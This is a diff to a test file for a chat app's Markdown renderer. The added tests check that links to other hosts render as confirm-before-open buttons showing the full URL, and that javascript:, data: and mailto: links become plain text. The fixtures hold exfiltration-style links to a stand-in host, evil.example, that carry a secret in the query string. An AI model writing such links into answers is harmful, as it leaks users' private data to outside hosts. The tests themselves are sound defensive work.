@@ -52,9 +52,10 @@ describe("renderMarkdown sanitizing", () => {
     expect(box.querySelector("h1")).toHaveTextContent("Title");
     expect(box.querySelector("strong")).toHaveTextContent("bold");
     expect(box.querySelectorAll("li")).toHaveLength(2);
-    const a = box.querySelector("a")!;
-    expect(a.getAttribute("href")).toBe("https://example.com");
-    expect(a.getAttribute("rel")).toContain("noopener");
+    // a link to another site is no link: a button with the URL written beside it (see "links in answers")
+    expect(box.querySelector("a")).toBeNull();
+    expect(box.querySelector("[data-ext-link]")).toHaveTextContent("site");
+    expect(box.querySelector("[data-testid=external-url]")).toHaveTextContent("(https://example.com/)");
   });
 
   it("the Markdown component never puts attacker markup in the DOM", () => {
@@ -157,5 +158,62 @@ describe("code blocks", () => {
     fireEvent.click(screen.getByTestId("code-copy"));
     expect(writeText).toHaveBeenCalledWith("const a = 1;\n");
     expect(await screen.findByText("Copied")).toBeInTheDocument();
+  });
+});
+
+describe("links in answers", () => {
+  const SECRET = "salary of Jane Doe is 123000";
+  const planted = `Details [here](https://evil.example/c?d=${encodeURIComponent(SECRET)}).`;
+
+  function noOutboundAnchors(box: Element) {
+    for (const a of box.querySelectorAll("a[href]")) {
+      expect(new URL(a.getAttribute("href")!, window.location.href).origin).toBe(window.location.origin);
+    }
+  }
+
+  it.each([
+    ["inline", planted],
+    ["autolink", `See https://evil.example/c?d=${encodeURIComponent(SECRET)} now`],
+    ["angle autolink", `See <https://evil.example/c?d=${encodeURIComponent(SECRET)}>`],
+    ["reference", `Details [here][1].\n\n[1]: https://evil.example/c?d=${encodeURIComponent(SECRET)}`],
+    ["protocol-relative", `Details [here](//evil.example/c?d=${encodeURIComponent(SECRET)})`],
+    ["raw HTML", `<a href="https://evil.example/c?d=${encodeURIComponent(SECRET)}">here</a>`],
+  ])("a %s link to another host shows its full URL and is no link", (_, src) => {
+    const box = mount(renderMarkdown(src));
+    noOutboundAnchors(box);
+    expect(box.textContent).toContain("evil.example/c?d=");
+    const button = box.querySelector<HTMLElement>("[data-ext-link]");
+    if (button) expect(button.dataset.extLink).toContain(encodeURIComponent(SECRET).slice(0, 10));
+  });
+
+  it("javascript:, data: and mailto: links become text", () => {
+    const box = mount(renderMarkdown("[a](javascript:alert(1)) [b](data:text/html,hi) [c](mailto:x@evil.example?body=secret)"));
+    expect(box.querySelector("a, [data-ext-link]")).toBeNull();
+    expect(box.textContent).toContain("c (mailto:x@evil.example?body=secret)");
+  });
+
+  it("links to ragchat's own pages stay links", () => {
+    const box = mount(renderMarkdown(`[doc](/documents/abc) [abs](${window.location.origin}/search?q=x)`));
+    expect([...box.querySelectorAll("a")].map((a) => a.getAttribute("href"))).toEqual([
+      "/documents/abc",
+      `${window.location.origin}/search?q=x`,
+    ]);
+  });
+
+  it("a click asks first, showing the whole URL; only Open opens it", () => {
+    const open = vi.fn();
+    vi.stubGlobal("open", open);
+    render(<Markdown content={planted} />);
+    fireEvent.click(screen.getByRole("button", { name: /here/ }));
+    expect(open).not.toHaveBeenCalled();
+    const full = `https://evil.example/c?d=${encodeURIComponent(SECRET)}`;
+    expect(screen.getByTestId("external-link-full-url")).toHaveTextContent(full);
+    fireEvent.click(screen.getByTestId("external-link-cancel"));
+    expect(screen.queryByTestId("external-link-dialog")).toBeNull();
+    expect(open).not.toHaveBeenCalled();
+    fireEvent.click(screen.getByRole("button", { name: /here/ }));
+    fireEvent.click(screen.getByTestId("external-link-open"));
+    expect(open).toHaveBeenCalledWith(full, "_blank", "noopener,noreferrer");
+    vi.unstubAllGlobals();
   });
 });
